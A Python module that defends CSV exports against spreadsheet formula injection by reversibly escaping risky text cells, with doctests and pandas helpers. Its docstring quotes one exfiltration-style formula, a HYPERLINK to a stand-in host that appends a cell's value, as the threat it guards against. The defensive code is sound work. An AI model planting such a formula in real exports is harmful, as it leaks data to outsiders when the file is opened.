"""Cells of exported CSV files that a spreadsheet would run as formulas, neutralised reversibly.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel, LibreOffice and Google Sheets (CSV injection): a comment such
as ``=HYPERLINK("http://x/?"&A1)`` would run when the export is opened. Every
CSV export of semclust (``exports/*.csv``, the report's tables, ``crosstab``)
writes such text cells with a leading apostrophe, which spreadsheets show as
text and hide. Plain numbers (``-1``, ``+0.5``, ``-2e-3``, ``-12%``) are left alone.

The escape is reversible: a text that already starts with apostrophes before a
formula character gets one more, and :func:`restore` removes exactly one, so
``restore(neutralise(x)) == x`` for every string ``x``. semclust reads its own
exports back through :func:`restore_frame`.

>>> neutralise('=SUM(A1:A9)'), neutralise('-1'), neutralise('fine'), neutralise("'=x")
("'=SUM(A1:A9)", '-1', 'fine', "''=x")
>>> [restore(neutralise(x)) for x in ['=1+1', "'=1+1", "''@a", '-1', "'-1", 'plain']]
['=1+1', "'=1+1", "''@a", '-1', "'-1", 'plain']
"""
from __future__ import annotations

import re

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?%?$")


def _needs_escape(text: str) -> bool:
    core = text.lstrip(ESCAPE)
    if not core.startswith(FORMULA_START):
        return False
    return core != text or not _NUMBER.match(core)


def neutralise(value):
    """``value`` with a leading apostrophe if a spreadsheet would read it as a formula; non-strings as they are."""
    if isinstance(value, str) and _needs_escape(value):
        return ESCAPE + value
    return value


def restore(value):
    """Undo :func:`neutralise` (strings it did not change come back unchanged)."""
    if isinstance(value, str) and value.startswith(ESCAPE) and _needs_escape(value[1:]):
        return value[1:]
    return value


def _text_columns(frame: pd.DataFrame) -> list:
    return [c for c in frame.columns if frame[c].dtype == object or pd.api.types.is_string_dtype(frame[c])]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell :func:`neutralise`-d (numeric columns untouched)."""
    out = frame.copy()
    for column in _text_columns(out):
        out[column] = out[column].map(neutralise)
    return out


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell :func:`restore`-d."""
    out = frame.copy()
    for column in _text_columns(out):
        out[column] = out[column].map(restore)
    return out


def write_export_csv(path, frame: pd.DataFrame) -> None:
    """Write an export (UTF-8 CSV, no index) atomically, its text cells neutralised."""
    from semclust.study import atomic_write_csv

    atomic_write_csv(path, neutralise_frame(frame))
